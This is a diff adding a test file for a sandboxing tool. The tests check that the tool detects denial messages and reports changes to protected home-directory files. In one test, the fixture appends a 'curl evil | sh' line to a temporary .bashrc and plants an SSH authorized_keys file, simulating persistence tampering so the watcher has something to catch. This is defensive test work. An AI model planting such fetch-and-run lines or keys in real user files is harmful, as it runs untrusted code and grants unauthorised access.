@@ -1,0 +1,90 @@
+import { appendFile, mkdir, rm, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { makeGround, runIn } from './fixture.ts'
+import { detectHost } from './host.ts'
+import { listLeftovers } from './leftovers.ts'
+import { watchProtected } from './protect.ts'
+import { DenialReader, readDenial } from './violations.ts'
+
+const at = '2026-01-01T00:00:00.000Z'
+
+describe('a likely denial', () => {
+  test.each([
+    ["touch: cannot touch 'x': Read-only file system", 'write_denied'],
+    ["Error: EROFS: read-only file system, open '/work/a'", 'write_denied'],
+    ['curl: (6) Could not resolve host: example.com', 'name_denied'],
+    ['Error: getaddrinfo EAI_AGAIN registry.npmjs.org', 'name_denied'],
+    ['connect: Network is unreachable', 'network_denied'],
+    ['unshare: unshare failed: Operation not permitted', 'call_denied'],
+    ['socket: Address family not supported by protocol', 'socket_denied'],
+  ])('is read from %j', (line, kind) => {
+    expect(readDenial(line, at)).toMatchObject({ kind, at, certain: false })
+  })
+
+  test.each(['Permission denied (publickey)', 'all 12 tests passed', 'mounting failed', ''])(
+    'is not read from %j',
+    (line) => {
+      expect(readDenial(line, at)).toBeNull()
+    },
+  )
+
+  test('is told once, however often it is printed and in whatever pieces it comes', () => {
+    const reader = new DenialReader()
+    const line = '\u001B[31mtouch: x: Read-only file system\u001B[0m\r\n'
+    const pieces = [...(line + line)].map((letter) => reader.read(letter, at))
+    expect(pieces.flat()).toHaveLength(1)
+    reader.read('y: Read-only file', at)
+    expect(reader.read(' system', at)).toEqual([])
+    expect(reader.end(at)).toHaveLength(1)
+  })
+
+  test('is what a real program prints when it is refused, at once', async () => {
+    await using ground = await makeGround()
+    const host = await detectHost(ground.dataDir)
+    const script =
+      'touch new; exec 2>&1; node -e \'fetch("http://example.test").catch((e) => console.log(e.cause.code))\''
+    const outcome = await runIn(ground, host, script, { files: 'ro' })
+    const reader = new DenialReader()
+    const found = [...reader.read(outcome.stderr, at), ...reader.read(outcome.stdout, at)]
+    expect(found.map(({ kind }) => kind)).toEqual(['write_denied', 'name_denied'])
+    expect(outcome.resources.wall_ms).toBeLessThan(10_000)
+  })
+})
+
+test('protected files that change during a run are told at its end, and only those', async () => {
+  await using ground = await makeGround()
+  const home = join(ground.folder, 'user-home')
+  await mkdir(join(home, '.ssh'), { recursive: true })
+  await writeFile(join(home, '.bashrc'), 'alias ll=ls\n')
+  await writeFile(join(home, '.gitconfig'), '[user]\n')
+  const watch = await watchProtected(ground.request(['true']), home)
+  expect(await watch.check(at)).toEqual([])
+  await appendFile(join(home, '.bashrc'), 'curl evil | sh\n')
+  await writeFile(join(home, '.ssh', 'authorized_keys'), 'key\n')
+  await rm(join(home, '.gitconfig'))
+  await writeFile(join(ground.root, 'planted'), '')
+  const changed = (await watch.check(at)).map(({ detail }) => detail.split(' ')[0])
+  expect(changed.sort()).toEqual(
+    [
+      join(home, '.bashrc'),
+      join(home, '.gitconfig'),
+      join(home, '.ssh'),
+      join(home, '.ssh', 'authorized_keys'),
+      ground.root,
+    ].sort(),
+  )
+})
+
+test('what tools leave in the home is listed', async () => {
+  await using ground = await makeGround()
+  const host = await detectHost(ground.dataDir)
+  await runIn(
+    ground,
+    host,
+    'mkdir -p ~/.cache/tool; head -c 100000 /dev/zero >~/.cache/tool/big; touch ~/.history',
+  )
+  const leftovers = await listLeftovers(ground.home)
+  expect(leftovers.map(({ path }) => path)).toEqual(['~/.cache', '~/.history'])
+  expect(leftovers[0]?.bytes).toBeGreaterThan(99_000)
+})
